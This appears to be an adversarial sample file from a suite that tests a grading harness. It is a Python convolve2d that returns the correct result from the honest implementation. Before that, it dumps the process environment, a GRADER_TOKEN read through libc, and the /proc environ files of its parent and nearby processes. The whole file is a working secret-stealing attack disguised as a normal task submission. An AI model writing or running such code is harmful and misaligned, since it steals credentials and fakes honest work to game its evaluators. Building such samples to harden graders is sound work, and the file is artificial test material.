# mypy: ignore-errors
"""Prints the environment: its own, libc's, and those of the processes above it.

Attacks: convolve2d
Earns: all
Process level: cannot stop it
"""

import ctypes
import os

from chapter04_convolution import convolve2d as honest


def convolve2d(image, kernel):
    loot = [repr(dict(os.environ))]
    get = ctypes.CDLL(None).getenv
    get.restype = ctypes.c_char_p
    loot.append(repr(get(b"GRADER_TOKEN")))
    for pid in {"self", os.getppid(), os.getppid() - 1, os.getpid() - 1}:
        try:
            loot.append(repr(open(f"/proc/{pid}/environ", "rb").read()))
        except OSError:
            continue
    print("\n".join(loot))
    return honest(image, kernel)
